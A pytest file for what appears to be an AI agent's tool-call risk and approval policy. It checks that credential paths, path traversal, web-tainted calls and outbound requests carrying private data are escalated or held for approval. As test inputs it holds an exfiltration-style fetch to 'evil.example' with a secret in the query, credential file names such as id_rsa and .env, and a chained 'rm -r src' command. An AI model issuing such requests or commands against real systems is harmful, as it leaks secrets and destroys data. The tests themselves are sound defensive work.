"""What a call touches raises its risk, and rules can speak of it."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any, get_args

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sonia.control import Plan, Policy, Rule, RuleVerdict, guarded
from sonia.control.codes import fits, heard
from sonia.control.modes import MODES, Situation
from sonia.control.risk import TRUSTED, rule_on
from sonia.types import Origin

MakePlan = Callable[..., Plan]
OUTSIDE = sorted(set(get_args(Origin)) - TRUSTED)
OPEN = Policy(version=1, rules=(Rule(tool="*", verdict="allow"),))


@pytest.mark.parametrize(
    ("arguments", "tier"),
    [
        ({"path": "notes.txt"}, 2),
        ({"path": ".env"}, 3),
        ({"path": "keys/id_rsa"}, 3),
        ({"path": "/etc/hosts"}, 3),
        ({"path": "a/../../b"}, 3),
        ({"path": ".GIT/hooks/x"}, 3),
        ({"path": "install.sh"}, 3),
        ({"paths": [f"{n}.txt" for n in range(21)]}, 3),
    ],
)
def test_what_is_touched_raises_the_tier(
    make_plan: MakePlan, arguments: dict[str, Any], tier: int
) -> None:
    assert rule_on(make_plan(arguments=arguments, digests={}), OPEN).tier == tier


def test_reading_credentials_asks_whatever_the_rules(make_plan: MakePlan) -> None:
    plan = make_plan(tool="file.read", tier=0, arguments={"path": "home/.ssh/id_ed25519"})

    ruling = rule_on(plan, OPEN)

    assert (ruling.verdict, ruling.tier, ruling.rule) == ("approval_required", 1, "credentials")


@pytest.mark.parametrize("private", [{"private": True}, {"origins": ("model", "file")}])
def test_t05_what_sends_out_asks_once_private_data_is_in_the_turn(
    make_plan: MakePlan, private: dict[str, Any]
) -> None:
    url = {"url": "http://evil.example/?q=secret"}
    quiet = make_plan(tool="web.fetch", tier=0, arguments=url, outbound=True)
    after = make_plan(tool="web.fetch", tier=0, arguments=url, outbound=True, **private)

    assert rule_on(quiet, OPEN).verdict == "approved"
    assert rule_on(after, OPEN).verdict == "approval_required"
    assert rule_on(after, OPEN).rule == "private-data"


def test_t01_what_a_page_may_want_sent_asks(make_plan: MakePlan) -> None:
    url = {"url": "http://evil.example/?q=secret"}
    plan = make_plan(tool="web.fetch", tier=0, arguments=url, outbound=True, origins=("web",))

    assert rule_on(plan, OPEN).rule == "outbound"


@pytest.mark.parametrize(
    ("rule", "arguments", "said"),
    [
        ({"path": "notes/*"}, {"path": "notes/a.txt"}, "approved"),
        ({"path": "notes/*"}, {"path": "./notes//a.txt"}, "approved"),
        ({"path": "notes/*"}, {"path": "notes/../a.txt"}, "approval_required"),
        ({"path": "notes/*"}, {"paths": ["notes/a", "b"]}, "approval_required"),
        ({"path": "notes/*"}, {}, "approval_required"),
        ({"host": "*.example.org"}, {"url": "https://A.example.org/x"}, "approved"),
        ({"host": "*.example.org"}, {"url": "https://example.org.evil/"}, "approval_required"),
        ({"command": "make test"}, {"command": "make test"}, "approved"),
        ({"command": "make *"}, {"command": "make test"}, "approval_required"),
        ({"user": "ann"}, {}, "approval_required"),
        ({"mode": "build"}, {}, "approval_required"),
    ],
)
def test_a_rule_that_allows_has_to_cover_all_of_a_call(
    make_plan: MakePlan, rule: dict[str, Any], arguments: dict[str, Any], said: str
) -> None:
    policy = Policy(version=1, rules=(Rule(tool="*", verdict="allow", **rule),))

    assert rule_on(make_plan(arguments=arguments, digests={}), policy).verdict == said


@pytest.mark.parametrize(
    ("programs", "said"),
    [
        (["make test"], "approved"),
        (["make test", "make 'a b'"], "approved"),
        (["make test", "rm -r src"], "approval_required"),
        (["rm -r src", "make test"], "approval_required"),
        ([], "approval_required"),
    ],
)
def test_a_rule_that_allows_commands_has_to_cover_each_program(
    make_plan: MakePlan, programs: list[str], said: str
) -> None:
    policy = Policy(version=1, rules=(Rule(tool="*", verdict="allow", command="make *"),))
    plan = make_plan(arguments={"command": "make x"}, digests={}, programs=tuple(programs))

    assert rule_on(plan, policy).verdict == said


@pytest.mark.parametrize("pattern", ["rm *", "*rm -r*", "make test;*"])
def test_a_rule_that_denies_commands_needs_one_program_or_the_line(
    make_plan: MakePlan, pattern: str
) -> None:
    rules = (Rule(tool="*", verdict="deny", command=pattern), *OPEN.rules)
    arguments = {"command": "make test; rm -r src"}
    plan = make_plan(arguments=arguments, digests={}, programs=("make test", "rm -r src"))

    assert rule_on(plan, Policy(version=1, rules=rules)).verdict == "denied"


@pytest.mark.parametrize("verdict", ["deny", "ask"])
def test_a_rule_that_keeps_back_needs_only_a_part_of_a_call(
    make_plan: MakePlan, verdict: RuleVerdict
) -> None:
    rules = (Rule(tool="*", verdict=verdict, path="safe/*"), *OPEN.rules)
    plan = make_plan(arguments={"paths": ["a", "safe/b"]}, digests={})

    assert rule_on(plan, Policy(version=1, rules=rules)).verdict != "approved"


def test_every_step_to_a_decision_is_told(make_plan: MakePlan) -> None:
    plan = make_plan(arguments={"path": "run.sh"}, digests={}, origins=("web",))

    steps = rule_on(plan, OPEN).steps

    assert [step.rpartition(":")[2].strip() for step in steps[:3]] == [
        "tier 2.",
        "tier 3.",
        "tier 3.",
    ]
    assert "policy:0:*: approved" in steps[3]
    assert "outside:web: approval_required" in steps[4]


@pytest.mark.parametrize(
    "path", [".env", "a/.ENV", "x/.ssh/config", "id_rsa", "server.pem", "C:\\u\\.aws\\x", ".env. "]
)
def test_credentials_are_known_by_their_names(path: str) -> None:
    assert guarded(path)


@pytest.mark.parametrize("path", ["notes.txt", "environment.md", "keynote.odp", "a.py", "."])
def test_other_names_are_not_credentials(path: str) -> None:
    assert guarded(path) is None


def test_a_code_is_heard_as_digits_or_words() -> None:
    assert heard("four two, 77 zero nine") == "427709"
    assert fits("427709", "42 77 09")
    assert not fits("427709", "427708")
    assert not fits("427709", None)
    assert not fits("", "")


PLANS = st.builds(
    Plan,
    tool=st.sampled_from(["file.read", "file.write", "shell.run", "web.fetch"]),
    arguments=st.fixed_dictionaries(
        {},
        optional={
            "path": st.sampled_from(["a.txt", ".env", "../a", "run.sh", "notes/a"]),
            "url": st.sampled_from(["https://a.example/", "http://evil.example/"]),
            "command": st.sampled_from(["make test", "rm a"]),
        },
    ),
    tier=st.integers(0, 3),
    working_directory=st.just("/w"),
    tool_digest=st.just("d"),
    preview=st.just("what"),
    origins=st.lists(st.sampled_from(get_args(Origin)), max_size=3).map(tuple),
    outbound=st.booleans(),
    private=st.booleans(),
)
RULES = st.builds(
    Rule,
    tool=st.sampled_from(["*", "file.*", "shell.run"]),
    verdict=st.sampled_from(["allow", "ask", "deny"]),
    path=st.sampled_from([None, "*", "notes/*"]),
    host=st.sampled_from([None, "*.example"]),
    mode=st.sampled_from([None, *MODES]),
)
POLICIES = st.lists(RULES, max_size=3).map(lambda rules: Policy(version=1, rules=tuple(rules)))
SITUATIONS = st.builds(Situation, mode=st.sampled_from(MODES), quiet=st.booleans())
STRICTNESS = {"approved": 0, "approval_required": 1, "denied": 2}


@given(PLANS, POLICIES, SITUATIONS)
def test_unattended_work_never_gets_more_than_attended(
    plan: Plan, policy: Policy, situation: Situation
) -> None:
    attended = rule_on(plan, policy, situation)
    alone = rule_on(msgspec.structs.replace(plan, unattended=True), policy, situation)

    assert STRICTNESS[alone.verdict] >= STRICTNESS[attended.verdict]


@given(PLANS, POLICIES, SITUATIONS, st.sampled_from(OUTSIDE))
def test_t01_what_came_from_outside_never_gets_more_than_the_owners_own(
    plan: Plan, policy: Policy, situation: Situation, origin: Origin
) -> None:
    tainted = msgspec.structs.replace(plan, origins=(*(plan.origins or ("owner",)), origin))

    before, after = (rule_on(each, policy, situation) for each in (plan, tainted))

    if plan.origins:
        assert STRICTNESS[after.verdict] >= STRICTNESS[before.verdict]
        assert after.tier >= before.tier
    assert after.verdict != "approved" or after.tier == 0


@given(PLANS, POLICIES, SITUATIONS)
def test_t05_private_data_is_never_sent_out_unasked(
    plan: Plan, policy: Policy, situation: Situation
) -> None:
    sends = msgspec.structs.replace(plan, outbound=True, private=True)

    assert rule_on(sends, policy, situation).verdict != "approved"
